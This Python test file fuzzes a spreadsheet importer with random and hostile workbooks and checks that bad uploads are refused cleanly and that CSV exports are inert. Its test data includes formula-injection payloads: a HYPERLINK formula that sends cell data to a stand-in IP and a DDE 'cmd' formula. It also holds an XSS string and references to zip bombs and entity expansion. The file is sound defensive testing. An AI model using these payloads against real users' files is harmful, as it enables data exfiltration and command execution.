"""Bad spreadsheets and tables never crash the import and never touch the store.

Hypothesis writes random .xlsx workbooks (random headers, Japanese, HTML, numbers, empty cells)
and random bytes under a spreadsheet name; `importer.validate` must return a report — problems as
"file:line: …" — and a report with problems must store nothing. ZENREI_FUZZ_EXAMPLES sets the
count (CI: a few dozen; `python bench/fuzz.py` runs the reader properties at 10,000+).
"""

from __future__ import annotations

import os
import re
import tempfile
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant import importer
from assistant.store import Store, StoreError

EXAMPLES = max(10, int(os.environ.get("ZENREI_FUZZ_EXAMPLES", "100")) // 3)
FUZZ = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])

HEADERS = ["年度", "事案の内容", "類型", "再発防止策", "id", "year", "description", "備考", ""]
# openpyxl refuses control characters in cells, as Excel does: generate what a workbook can hold.
CELL_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40) | st.sampled_from(
    ["R5", "令和6年度", "<script>alert(1)</script>", "要配慮、100人以上", "不明", "=1+1"]
)
CELL = st.none() | st.integers(-(10**6), 10**6) | st.floats(allow_nan=False, allow_infinity=False) | CELL_TEXT
PROBLEM = re.compile(r"^.+:\d+: .+")


def _workbook(path: Path, header: list[str], rows: list[list[object]]) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)


def _check(report: importer.Report) -> None:
    assert all(PROBLEM.match(problem) for problem in report.problems), report.problems
    if report.problems:
        assert report.incidents == ()
    for incident in report.incidents:
        assert incident.description.strip()


@FUZZ
@given(
    header=st.lists(st.sampled_from(HEADERS), min_size=1, max_size=6),
    rows=st.lists(st.lists(CELL, max_size=6), max_size=8),
)
def test_random_workbooks_give_a_report_and_failed_imports_store_nothing(header, rows):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "cases.xlsx"
        _workbook(path, header, rows)
        report = importer.validate(path)
        _check(report)
        with Store(Path(tmp) / "store.sqlite3") as store:
            before = store.incidents()
            try:
                importer.commit(report, store)
            except StoreError:
                assert store.incidents() == before  # refused: nothing stored
            else:
                assert len(store.incidents()) == len(before) + len(report.incidents)


@FUZZ
@given(blob=st.binary(max_size=2048), suffix=st.sampled_from([".xlsx", ".csv", ".tsv", ".jsonl", ".txt"]))
def test_random_bytes_under_any_table_name_are_a_report_with_problems_not_a_crash(blob, suffix):
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"upload{suffix}"
        path.write_bytes(blob)
        _check(importer.validate(path))


# --- hostile workbooks ------------------------------------------------------------------------
# Bombs, a lying zip directory, no worksheet, broken XML, formulas (cells and cached values),
# huge cells and far rows, written part by part (tests/hostile_workbooks.py). Each must be a
# clear error (one "file:line: …" line, nothing stored) or a correct import (every case stored,
# the CSV export inert, the JSONL export exact). bench/fuzz.py runs this family long.

import collections  # noqa: E402
import csv  # noqa: E402
import json  # noqa: E402

import hostile_workbooks as hw  # noqa: E402

from assistant.exporter import export_store  # noqa: E402
from data.decoding import MAX_CELL_BYTES  # noqa: E402

HOSTILE_CASES: collections.Counter[str] = collections.Counter()  # kind -> workbooks tried
FORMULAS = st.sampled_from(
    ['=HYPERLINK("http://203.0.113.9/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
)
FORMULA_CELL = st.builds(
    lambda pad, f, tail: pad + f + tail, st.sampled_from(["", " ", "\u3000 "]), FORMULAS, CELL_TEXT
)
MB = 1024 * 1024


@st.composite
def hostile_workbooks(draw) -> tuple[str, object, str]:
    """(kind, builder of the workbook at a path, what must happen: "refused", "imported", or "cell":
    refused for a cell over the limit)."""
    kind = draw(
        st.sampled_from(
            [
                "shared_string_bomb",
                "whitespace_bomb",
                "lying_directory",
                "no_sheet",
                "missing_shared_string",
                "entity_expansion",
                "cut_sheet",
                "truncated_zip",
                "formula_cells",
                "cached_formula",
                "far_rows",
                "huge_cell",
            ]
        )
    )
    if kind == "shared_string_bomb":
        size = draw(st.integers(MB + 1, 2 * MB))
        return kind, lambda p: hw.shared_string_bomb(p, size), "refused"
    if kind == "whitespace_bomb":
        size = draw(st.integers(MB + 1, 2 * MB))
        return kind, lambda p: hw.whitespace_bomb(p, size), "refused"
    if kind == "lying_directory":
        claimed = draw(st.integers(50 * MB + 1, 2**32 - 1))
        return kind, lambda p: hw.lying_directory_workbook(p, claimed), "refused"
    if kind == "no_sheet":
        return kind, hw.no_sheet_workbook, "refused"
    if kind == "missing_shared_string":
        return kind, hw.missing_shared_string_workbook, "refused"
    if kind == "entity_expansion":
        levels = draw(st.integers(3, 9))
        return kind, lambda p: hw.entity_expansion_workbook(p, levels), "refused"
    rows = draw(
        st.lists(st.tuples(st.just("R5"), FORMULA_CELL | CELL_TEXT, CELL_TEXT, CELL_TEXT), min_size=1, max_size=5)
    )
    if kind == "cut_sheet":
        keep = draw(st.floats(0.05, 0.95))
        return kind, lambda p: hw.cut_sheet_workbook(p, rows, keep), "refused"
    if kind == "truncated_zip":
        keep = draw(st.floats(0.0, 0.98))

        def truncated(path: Path) -> Path:
            hw.table_workbook(path, rows)
            data = path.read_bytes()
            path.write_bytes(data[: int(len(data) * keep)])
            return path

        return kind, truncated, "refused"
    if kind == "formula_cells":
        formulas = draw(
            st.lists(st.tuples(FORMULA_CELL, FORMULA_CELL, FORMULA_CELL, FORMULA_CELL), min_size=1, max_size=4)
        )
        # Descriptions need a letter after the formula so they stay non-empty once cleaned.
        table = [(f"{i}{a}", "R5", f"{b} 事案{i}", c, d) for i, (a, b, c, d) in enumerate(formulas)]
        return kind, lambda p: hw.table_workbook(p, table, header=("id", *hw.HEADER)), "imported"
    if kind == "cached_formula":
        cached = draw(FORMULA_CELL)
        return kind, lambda p: hw.cached_formula_workbook(p, cached.strip() + " 事案"), "imported"
    if kind == "far_rows":
        first = draw(st.integers(3, 1_048_000))

        def far(path: Path) -> Path:
            body = hw.rows_xml([hw.HEADER, ("R5", "住民票を誤交付した", "", "")])
            body += hw.rows_xml([("R6", "遠い行の事案", "", "")], first_row=first)
            return hw.write_workbook(path, hw.sheet_xml(body))

        return kind, far, "imported"
    size = draw(st.integers(MAX_CELL_BYTES - 64, MAX_CELL_BYTES + 64))
    text = b"".join(hw.random_text(size)).decode()
    # Random letters and digits: one byte each, so `size` is the cell's size in UTF-8.
    return (
        kind,
        lambda p: hw.table_workbook(p, [("R5", text, "", "")]),
        "imported" if size <= MAX_CELL_BYTES else "cell",
    )


def _csv_cells(path: Path) -> list[str]:
    csv.field_size_limit(max(csv.field_size_limit(), 2 * MAX_CELL_BYTES))
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@FUZZ
@given(case=hostile_workbooks())
def test_hostile_workbooks_are_refused_in_one_line_or_imported_whole(case):
    kind, build, expected = case
    HOSTILE_CASES[kind] += 1
    with tempfile.TemporaryDirectory() as tmp:
        path = build(Path(tmp) / f"{kind}.xlsx")
        report = importer.validate(path)
        _check(report)
        assert all("\n" not in problem for problem in report.problems), report.problems
        if expected == "cell":  # over the cell limit: refused on its row
            assert report.problems == (f"{path}:2: セルが大きすぎます (cell larger than 1 MB)",)
            expected = "refused"
        assert bool(report.problems) == (expected == "refused"), (kind, report.problems)
        with Store(Path(tmp) / "store.sqlite3") as store:
            try:
                stored = importer.commit(report, store)
            except StoreError:
                assert expected == "refused" and store.incidents() == ()  # nothing half-stored
                return
            assert stored == len(report.incidents) == len(store.incidents())
            export_store(store, Path(tmp) / "out")
            exported = [
                json.loads(line) for line in (Path(tmp) / "out" / "store.jsonl").read_text("utf-8").splitlines()
            ]
            assert [r["description"] for r in exported] == [i.description for i in store.incidents()]
        for cell in _csv_cells(Path(tmp) / "out" / "store.csv"):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not cell.lstrip().startswith(
                ("=", "+", "@")
            )
